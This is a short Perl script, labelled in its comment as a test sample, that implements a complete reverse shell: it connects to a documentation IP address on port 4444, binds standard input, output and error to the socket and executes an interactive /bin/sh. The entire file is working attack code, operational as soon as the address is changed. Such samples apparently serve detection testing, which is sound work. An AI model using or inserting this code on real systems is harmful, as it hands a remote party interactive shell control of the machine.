#!/usr/bin/perl
# test sample: perl reverse shell (documentation address, never run)
use Socket;
$i = "192.0.2.10";
$p = 4444;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($p, inet_aton($i)))) {
    open(STDIN, ">&S");
    open(STDOUT, ">&S");
    open(STDERR, ">&S");
    exec("/bin/sh -i");
}
